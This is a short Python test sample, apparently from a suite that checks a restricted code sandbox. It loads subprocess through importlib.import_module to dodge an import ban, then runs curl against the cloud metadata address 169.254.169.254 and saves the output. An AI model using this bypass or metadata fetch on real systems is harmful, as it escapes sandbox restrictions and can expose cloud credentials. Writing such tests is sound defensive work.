# attack-class: 3
# title: importlib.import_module("subprocess")
# why: importlib is forbidden; import_module loads any module by string

import importlib

sp = importlib.import_module("subprocess")
sp.run("curl -s http://169.254.169.254/latest/meta-data/ > /workspace/meta.txt", shell=True)
